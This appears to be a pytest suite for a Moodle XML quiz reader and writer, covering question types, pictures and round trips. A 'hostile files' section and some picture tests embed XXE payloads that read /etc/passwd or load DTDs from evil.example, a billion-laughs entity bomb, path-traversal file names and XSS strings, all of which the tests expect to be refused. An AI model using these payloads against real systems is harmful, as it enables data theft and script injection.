"""Moodle XML: what Moodle writes, its odd corners, what is wrong or hostile, and any item there and back."""

import base64
from dataclasses import replace

import pytest
from defusedxml import ElementTree
from hypothesis import given, settings
from hypothesis import strategies as st

from quiz.exchange import moodle_xml
from quiz.exchange.bank_folder import read_folder
from quiz.exchange.reading import FileRefused, Reading
from quiz.rules.draft import ItemDraft, OptionDraft, PictureDraft
from tests.factories_quiz import make_draft
from tests.quiz.exchange.drafts import PNG, SVG, many, plain_numbers

PACKED = base64.b64encode(PNG).decode()
STEM = "<questiontext><text>Q</text></questiontext>"
KEY = '<answer fraction="100"><text>a</text></answer>'


def read(*questions: str) -> Reading:
    return moodle_xml.read(f'<?xml version="1.0" encoding="UTF-8"?>\n<quiz>{"".join(questions)}</quiz>'.encode())


def question(kind: str, inside: str, stem: str = STEM) -> str:
    return f'<question type="{kind}"><name><text>Tên</text></name>{stem}{inside}</question>'


def one(kind: str, inside: str, stem: str = STEM) -> ItemDraft:
    reading = read(question(kind, inside, stem))
    assert reading.problems == []
    [draft] = reading.drafts
    return draft


def noted(kind: str, inside: str, stem: str = STEM) -> list[tuple[str, tuple[str, ...]]]:
    return [(note.code, note.values) for note in read(question(kind, inside, stem)).notes]


def answer(fraction: object, text: str, more: str = "") -> str:
    return f'<answer fraction="{fraction}" format="html"><text>{text}</text>{more}</answer>'


def feedback(text: str) -> str:
    return f'<feedback format="html"><text>{text}</text></feedback>'


def rights(draft: ItemDraft) -> list[str]:
    return [option.vi for option in draft.options if option.right]


def test_single_choice_as_moodle_writes_it() -> None:
    reading = moodle_xml.read(
        """

        <?xml version="1.0" encoding="UTF-8"?>
        <quiz>
        <!-- question: 0  -->
          <question type="category"><category><text>$course$/top/Lớp 9</text></category><info/></question>
        <!-- question: 21  -->
          <question type="multichoice">
            <name><text>Hiến chương</text></name>
            <questiontext format="html">
              <text><![CDATA[<p>Hiến chương có hiệu lực <b>ngày</b> nào?<br></p>]]></text>
            </questiontext>
            <generalfeedback format="html"><text><![CDATA[<p>30 ngày sau.</p>]]></text></generalfeedback>
            <defaultgrade>1.0000000</defaultgrade><penalty>0.3333333</penalty><hidden>0</hidden>
            <idnumber>charter-001</idnumber>
            <single>true</single><shuffleanswers>true</shuffleanswers><answernumbering>abc</answernumbering>
            <correctfeedback format="html"><text>Đúng</text></correctfeedback>
            <answer fraction="100" format="html"><text><![CDATA[<p>15/12/2008</p>]]></text>
              <feedback format="html"><text/></feedback></answer>
            <answer fraction="0" format="html"><text>20/11/2007</text>
              <feedback format="html"><text><![CDATA[<p>Ngày ký.</p>]]></text></feedback></answer>
            <answer fraction="0" format="plain_text"><text>&lt;8/8/1967&gt;</text></answer>
            <hint format="html"><text>Sau khi ký.</text></hint>
            <tags><tag><text>level:recall</text></tag><tag><text>Lịch sử</text></tag></tags>
          </question>
        </quiz>""".encode()
    )
    assert reading.problems == []
    [draft] = reading.drafts
    assert (draft.slug, draft.kind, draft.level) == ("charter-001", "single", "recall")
    assert (draft.stem_vi, draft.explanation_vi) == ("Hiến chương có hiệu lực ngày nào?", "30 ngày sau.")
    assert draft.options == (
        OptionDraft("15/12/2008", "", right=True),
        OptionDraft("20/11/2007", "", why_vi="Ngày ký."),
        OptionDraft("<8/8/1967>", ""),
    )
    assert [(note.where, note.code, note.values) for note in reading.notes] == [
        ("#1", "hint_dropped", ()),
        ("#1", "tags_dropped", ("Lịch sử",)),
        ("#1", "markup_dropped", ("b",)),
        ("#1", "category_not_kept", ("$course$/top/Lớp 9",)),
    ]


@pytest.mark.parametrize(
    ("single", "fractions", "kind", "right", "codes"),
    [
        ("false", [50, 50, 0], "multiple", "ab", []),
        ("0", [50, 50, -50], "multiple", "ab", []),
        ("false", ["33.33333", "33.33333", "33.33333"], "multiple", "abc", []),
        ("true", [50, 100, 0], "single", "b", ["weight_not_kept"]),
        ("true", [100, 100, 0], "multiple", "ab", ["kind_changed_to"]),
        ("false", [100, 0, 0], "single", "a", ["kind_changed_to"]),
        ("false", [75, 25, 0], "multiple", "ab", ["weight_not_kept"]),
    ],
)
def test_fractions_tell_single_from_multiple(
    single: str, fractions: list[object], kind: str, right: str, codes: list[str]
) -> None:
    inside = f"<single>{single}</single>" + "".join(answer(f, t) for f, t in zip(fractions, "abc", strict=True))
    draft = one("multichoice", inside)
    assert (draft.kind, "".join(rights(draft))) == (kind, right)
    assert [code for code, _values in noted("multichoice", inside)] == codes


def test_true_or_false_is_a_choice_of_two_and_left_to_the_rules() -> None:
    draft = one("truefalse", answer(0, "true", feedback("Không.")) + answer(100, "false"))
    assert draft.kind == "single"
    assert draft.options == (
        OptionDraft("Đúng", "True", why_vi="Không."),
        OptionDraft("Sai", "False", right=True),
    )


def test_short_answers_are_plain_text() -> None:
    inside = (
        answer(100, "&lt;Jakarta&gt;") + answer(100, "a\\*b") + answer(50, "Jkt") + answer(100, "J*") + answer(0, "*")
    )
    assert one("shortanswer", inside).answers == ("<Jakarta>", "a*b")
    assert noted("shortanswer", inside + "<usecase>1</usecase>") == [
        ("weight_not_kept", ("Jkt 50 %",)), ("wildcard_not_kept", ("J*",)), ("case_not_kept", ()),
    ]  # fmt: skip
    assert noted("shortanswer", answer(100, "a", feedback("Hay!"))) == [("feedback_dropped", ())]


@pytest.mark.parametrize(
    ("answers", "read_as"),
    [
        (answer(100, "1967", "<tolerance>0</tolerance>"), ("1967",)),
        (answer(100, "670", "<tolerance>10</tolerance>"), ("660", "680")),
        (answer(100, "3.14", "<tolerance>0.005</tolerance>") + answer(0, "*"), ("3.135", "3.145")),
        (answer(100, "5") + answer(50, "5", "<tolerance>1</tolerance>"), ("5",)),
        ('<answer fraction="100">23<tolerance>1</tolerance></answer>', ("22", "24")),
    ],
)
def test_numbers_with_their_tolerance(answers: str, read_as: tuple[str, ...]) -> None:
    draft = one("numerical", answers)
    assert (draft.kind, draft.answers) == ("number", read_as)


def test_units_are_noted() -> None:
    units = "<units><unit><multiplier>1</multiplier><unit_name>km</unit_name></unit></units>"
    assert noted("numerical", KEY.replace(">a<", ">5<") + units) == [("units_dropped", ("km",))]


def test_matching_with_a_partner_too_many() -> None:
    pair = '<subquestion format="html"><text>{}</text><answer><text>{}</text></answer></subquestion>'
    draft = one("matching", pair.format("<![CDATA[<p>Lào</p>]]>", "Viêng Chăn &amp;amp; …") + pair.format("", "Hà Nội"))
    assert draft.kind == "matching"
    assert draft.options == (
        OptionDraft("Lào", "", match_vi="Viêng Chăn & …"),
        OptionDraft("", "", match_vi="Hà Nội"),
    )
    assert one("match", pair.format("a", "b")).kind == "matching"


def test_ordering_goes_by_the_fractions_if_they_say_an_order() -> None:
    def order(*fractions: str) -> list[str]:
        answers = (answer(fraction, word, feedback("f")) for fraction, word in zip(fractions, "abc", strict=True))
        return [option.vi for option in one("ordering", "".join(answers)).options]

    assert order("1.0000000", "2.0000000", "3.0000000") == ["a", "b", "c"]
    assert order("3", "1", "2") == ["b", "c", "a"]
    assert order("1", "1", "1") == ["a", "b", "c"]
    assert one("ordering", answer(1, "a", feedback("vì"))).options[0].why_vi == "vì"


@pytest.mark.parametrize(
    "kind",
    ["cloze", "multianswer", "essay", "description", "ddwtos", "ddmarker", "gapselect", "calculated", "random", ""],
)
def test_other_types_are_named_and_the_rest_is_read(kind: str) -> None:
    reading = read(question(kind, ""), question("shortanswer", KEY))
    assert [(p.where, p.code, p.values) for p in reading.problems] == [("#1", "kind_not_carried", (kind or "?",))]
    assert len(reading.drafts) == 1


@pytest.mark.parametrize(
    ("kind", "inside", "code"),
    [
        ("multichoice", "", "no_key"),
        ("multichoice", answer(0, "a") + answer(0, "b"), "no_key"),
        ("multichoice", answer(50, "a") + answer(0, "b"), "weights_sum"),
        ("multichoice", answer(200, "a"), "weight_bad"),
        ("multichoice", answer("x", "a"), "weight_bad"),
        ("multichoice", answer("9" * 5000, "a"), "weight_bad"),
        ("multichoice", answer(0, "a") * 101, "options_too_many"),
        ("truefalse", answer(0, "true"), "no_key"),
        ("shortanswer", "", "no_key"),
        ("shortanswer", answer(100, "*"), "no_key"),
        ("numerical", answer(100, "nan"), "number_bad"),
        ("numerical", answer(100, "9" * 16), "number_bad"),
        ("numerical", answer(100, "1", "<tolerance>-1</tolerance>"), "tolerance_bad"),
        ("numerical", answer(100, "1", "<tolerance>inf</tolerance>"), "number_bad"),
        ("numerical", answer(100, "1") + answer(100, "5"), "ranges_several"),
        ("numerical", "", "no_key"),
        ("matching", "", "no_key"),
        ("matching", "<subquestion><text>a</text></subquestion>", "match_bad"),
        ("ordering", "", "no_key"),
        ("ordering", answer("x", "a"), "number_bad"),
    ],
)
def test_what_cannot_be_read_is_named(kind: str, inside: str, code: str) -> None:
    reading = read(question("description", ""), question(kind, inside))
    assert reading.drafts == []
    assert [(problem.where, problem.code) for problem in reading.problems[1:]] == [("#2", code)]


def test_a_question_without_text_or_with_far_too_much() -> None:
    assert read(question("shortanswer", KEY, "")).problems[0].code == "stem_missing"
    assert (
        read(question("shortanswer", KEY, STEM.replace("Q", "<![CDATA[<p>&nbsp;</p>]]>"))).problems[0].code
        == "stem_missing"
    )
    assert read(question("shortanswer", KEY, STEM.replace("Q", "Q" * 20_001))).problems[0].code == "text_too_long"


def test_the_same_question_twice_is_a_problem() -> None:
    reading = read(question("shortanswer", KEY), question("shortanswer", KEY))
    assert [(p.where, p.code) for p in reading.problems] == [("#2", "slug_twice")]


def test_older_and_looser_writers() -> None:
    draft = one("shortanswer", '<answer fraction="100">a</answer>' + KEY, "<questiontext>Bare text</questiontext>")
    assert draft.stem_vi == "Bare text"
    markdown = '<questiontext format="markdown"><text>**Q**</text></questiontext>'
    draft = one("multichoice", '<answer fraction="100"><text>_a_</text></answer>', markdown)
    assert (draft.stem_vi, draft.options[0].vi) == ("Q", "a")


# --- pictures ---------------------------------------------------------------------------------------------------------


def pictured(html: str, *files: str) -> str:
    return f'<questiontext format="html"><text><![CDATA[Q {html}]]></text>{"".join(files)}</questiontext>'


def file(name: str, data: str = PACKED, path: str = "/", encoding: str = "base64") -> str:
    return f'<file name="{name}" path="{path}" encoding="{encoding}">{data}</file>'


def test_the_first_picture_of_the_stem_is_kept() -> None:
    html = '<img src="@@PLUGINFILE@@/b%E1%BA%A3n%20%C4%91%E1%BB%93.png" alt="Bản đồ"> <img src="@@PLUGINFILE@@/b.png">'
    stem = pictured(html, file("bản đồ.png"), file("b.png"), file("c.mp3"))
    picture = one("shortanswer", KEY, stem).picture
    assert picture
    assert (picture.data, picture.alt_vi, picture.alt_en, picture.credit) == (PNG, "Bản đồ", "Bản đồ", "")
    assert picture.name == picture.digest[:16] + ".png"
    assert noted("shortanswer", KEY, stem) == [
        ("picture_dropped", ("@@PLUGINFILE@@/b.png",)),
        ("picture_dropped", ("c.mp3",)),
    ]


def test_a_picture_may_lie_in_a_folder_or_in_its_address_or_where_old_moodles_put_it() -> None:
    in_folder = pictured('<img src="@@PLUGINFILE@@/maps/a.png">', file("a.png", path="/maps/"))
    assert one("shortanswer", KEY, in_folder).picture
    assert one("shortanswer", KEY, pictured(f'<img src="data:image/png;base64,{PACKED}">')).picture
    old = one("shortanswer", f"{KEY}<image>quiz/moodle.png</image><image_base64>\n{PACKED}\n</image_base64>").picture
    assert old
    assert old.name == "moodle.png"


def test_pictures_of_options_are_noted() -> None:
    inside = answer(100, '<![CDATA[a<img src="@@PLUGINFILE@@/x.png">]]>') + answer(0, "b")
    assert noted("multichoice", inside) == [("picture_dropped", ("@@PLUGINFILE@@/x.png",))]


HOSTILE_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()


@pytest.mark.parametrize(
    ("files", "reason"),
    [
        (file("a.png", PACKED[:-5] + "!"), "broken"),
        (file("a.png", "ệ"), "broken"),
        (file("a.png", PACKED, encoding="gzip"), "broken"),
        (file("a.png", base64.b64encode(b"%PDF-1.7").decode()), "not_a_picture"),
        (file("a.png", ""), "not_a_picture"),
        (file("a.png", HOSTILE_SVG), "unsafe"),
        (file("a.png", base64.b64encode(PNG + bytes(2_000_000)).decode()), "too_large"),
        ("", "not_in_file"),
        (file("b.png"), "not_in_file"),
    ],
)
def test_what_is_no_picture_is_refused_and_the_question_kept(files: str, reason: str) -> None:
    stem = pictured('<img src="@@PLUGINFILE@@/a.png">', files)
    assert one("shortanswer", KEY, stem).picture is None
    assert noted("shortanswer", KEY, stem)[0] == ("picture_refused", ("@@PLUGINFILE@@/a.png", reason))


@pytest.mark.parametrize("path", ["../", "/../../etc/", "..\\", "/a/../../"])
def test_no_path_leads_out_of_the_file(path: str) -> None:
    address = f"{path}/a.png".replace("//", "/").lstrip("/")
    stem = pictured(f'<img src="@@PLUGINFILE@@/{address}">', file("a.png", path=path))
    assert one("shortanswer", KEY, stem).picture is None
    assert noted("shortanswer", KEY, stem)[0][0] == "picture_refused"


@pytest.mark.parametrize("name", ["../../evil.png", "/etc/passwd.png", "a\\..\\b.png", "..", "con:x.png"])
def test_no_name_leads_out_of_the_file(name: str) -> None:
    picture = one("shortanswer", KEY, pictured(f'<img src="@@PLUGINFILE@@/{name}">', file(name))).picture
    assert picture is None or set(picture.name) <= set("0123456789abcdef.png")


# --- hostile files ----------------------------------------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE quiz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><quiz><question>&i;</question></quiz>"
)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (LAUGHS, "has_dtd"),
        ("<!DOCTYPE quiz><quiz/>", "has_dtd"),
        ('<!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz>&x;</quiz>', "has_dtd"),
        ('<!DOCTYPE q SYSTEM "http://evil.example/x.dtd"><quiz/>', "has_dtd"),
        ('<!DOCTYPE q [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><quiz/>', "has_dtd"),
        ("<quiz>&x;</quiz>", "broken_file"),
        ("<quiz><question></quiz>", "broken_file"),
        ("<quiz>", "broken_file"),
        ("quiz", "broken_file"),
        ("<quiz/><quiz/>", "broken_file"),
        ("<quiz>&#0;</quiz>", "broken_file"),
        ("<html/>", "not_moodle_xml"),
        ('<x:quiz xmlns:x="urn:x"/>', "not_moodle_xml"),
        ("<quiz>" + "<a>" * 100_000, "too_deep"),
        ("<quiz><question>" + "<text>" * 50 + "</text>" * 50 + "</question></quiz>", "too_deep"),
        ("<quiz>" + "<question/>" * 10_001 + "</quiz>", "too_many_items"),
        ("", "empty_file"),
    ],
)
def test_hostile_files_are_refused_whole(text: str, code: str) -> None:
    with pytest.raises(FileRefused) as refused:
        moodle_xml.read(text.encode())
    assert refused.value.problem.code == code


def test_a_file_says_where_it_breaks() -> None:
    with pytest.raises(FileRefused) as refused:
        moodle_xml.read(b"<quiz>\n<question>\n</quiz>")
    assert refused.value.problem.where == "L3"


@pytest.mark.parametrize("data", [b"\xff<quiz/>", b"\x00<quiz/>", b"PK\x03\x04\x14\x00\x00\x00\x08\x00\xfe"])
def test_bytes_that_are_no_text_are_refused(data: bytes) -> None:
    with pytest.raises(FileRefused, match="not_text"):
        moodle_xml.read(data)


def test_script_in_cdata_never_survives() -> None:
    bad = "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a>"
    html = f"<![CDATA[Q {bad}]]>"
    reading = read(
        question(
            "multichoice",
            answer(100, html, feedback(html)) + f"<generalfeedback><text>{html}</text></generalfeedback>"
            f"<tags><tag><text>{html}</text></tag></tags><idnumber>{html}</idnumber>",
            STEM.replace("Q", html),
        )
    )
    [draft] = reading.drafts
    assert "alert" not in str(draft)
    assert "javascript" not in str(draft)
    assert draft.stem_vi == "Q x"


def test_a_source_is_a_web_address_or_none() -> None:
    html = '<![CDATA[<cite class="quiz-source"><a href="{}">Bài</a></cite>]]>'
    general = "<generalfeedback><text>{}</text></generalfeedback>"
    kept = one("shortanswer", KEY + general.format(html.format("https://asean.org/?a=1&amp;b")))
    assert (kept.source_title, kept.source_url, kept.explanation_vi) == ("Bài", "https://asean.org/?a=1&b", "")
    inside = KEY + general.format(html.format("javascript:alert(1)"))
    assert one("shortanswer", inside).source_url == ""
    assert noted("shortanswer", inside) == [("tags_dropped", ("source_url:javascript:alert(1)",))]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_any_unicode_encoding_whatever_the_file_says_of_itself(encoding: str) -> None:
    item = question("shortanswer", KEY, STEM.replace("Q", "Hỏi"))
    text = f'<?xml version="1.0" encoding="windows-1258"?><quiz>{item}</quiz>'
    assert moodle_xml.read(text.encode(encoding)).drafts[0].stem_vi == "Hỏi"


# --- there and back ---------------------------------------------------------------------------------------------------


def held(draft: ItemDraft) -> ItemDraft:
    """What Moodle XML keeps of an item."""
    remarked = draft.kind != "matching"
    return replace(
        draft,
        answers=plain_numbers(draft.answers) if draft.kind == "number" else draft.answers,
        options=draft.options if remarked else tuple(replace(o, why_vi="", why_en="") for o in draft.options),
        picture=draft.picture and replace(draft.picture, alt_en=_alt_en(draft)),
    )


def _alt_en(draft: ItemDraft) -> str:
    if not draft.picture:
        return ""
    return draft.picture.alt_en if draft.stem_en or draft.explanation_en else draft.picture.alt_vi


@settings(max_examples=80, deadline=None)
@given(drafts=many())
def test_items_come_back_as_far_as_moodle_holds_them(drafts: list[ItemDraft]) -> None:
    written = moodle_xml.write(drafts)
    reading = moodle_xml.read(written.data)
    assert reading.problems == []
    assert reading.drafts == [held(draft) for draft in drafts]
    assert not {note.code for note in reading.notes} - {"category_not_kept"}
    lost = {draft.slug for draft in drafts if draft.kind == "matching" and held(draft).options != draft.options}
    assert {note.where for note in written.notes} == lost


def test_the_bank_comes_back_whole() -> None:
    drafts = read_folder().drafts
    written = moodle_xml.write(drafts)
    reading = moodle_xml.read(written.data)
    assert (reading.problems, reading.notes, written.notes) == ([], [], ())
    assert reading.drafts == [held(draft) for draft in drafts]


def test_what_is_written_is_what_moodle_expects() -> None:
    drawing = PictureDraft("flag.svg", SVG, "Cờ", "Flag", "An (CC0)")
    written = moodle_xml.write(
        [make_draft(picture=drawing), make_draft(slug="b", kind="number", options=(), answers=("1", "4"))]
    )
    root = ElementTree.fromstring(written.data)
    category, first, second = root.findall("question")
    assert category.findtext("category/text") == "$course$/top/ASEAN/charter"
    assert (first.get("type"), first.findtext("idnumber"), first.findtext("single")) == (
        "multichoice",
        "charter-001",
        "true",
    )
    stem = first.findtext("questiontext/text") or ""
    assert stem.count('class="multilang"') == 2
    assert 'src="@@PLUGINFILE@@/flag.svg" alt="Flag"' in stem
    assert '<small class="quiz-credit">An (CC0)</small>' in stem
    assert base64.b64decode(first.findtext("questiontext/file") or "") == SVG
    assert [found.get("fraction") for found in first.findall("answer")] == ["100", "0", "0", "0"]
    assert (second.findtext("answer/text"), second.findtext("answer/tolerance")) == ("2.5", "1.5")


def test_what_is_left_behind_is_said() -> None:
    drafts = [
        make_draft(slug="a", options=()),
        make_draft(slug="b", kind="cloze"),
        make_draft(slug="c", stem_vi="", stem_en=""),
    ]
    assert [(note.where, note.code) for note in moodle_xml.write(drafts).notes] == [
        ("a", "no_key"), ("b", "kind_not_carried"), ("c", "stem_missing"),
    ]  # fmt: skip
    assert moodle_xml.read(moodle_xml.write(drafts).data).drafts == []


TAGS = ("question", "questiontext", "text", "answer", "subquestion", "file", "tags", "tag", "name", "quiz", "tolerance")


@settings(max_examples=200, deadline=None)
@given(
    pieces=st.lists(
        st.sampled_from([f"<{t}>" for t in TAGS] + [f"</{t}>" for t in TAGS])
        | st.sampled_from(
            ['<question type="multichoice">', '<answer fraction="100">', "<![CDATA[", "]]>", "a", "&amp;", "<b>"]
        )
    )
)
def test_no_text_breaks_the_reader(pieces: list[str]) -> None:
    assert refusal("".join(pieces)) in {"", "broken_file", "too_deep"}


def refusal(text: str) -> str:
    try:
        read(text)
    except FileRefused as refused:
        return refused.problem.code
    return ""
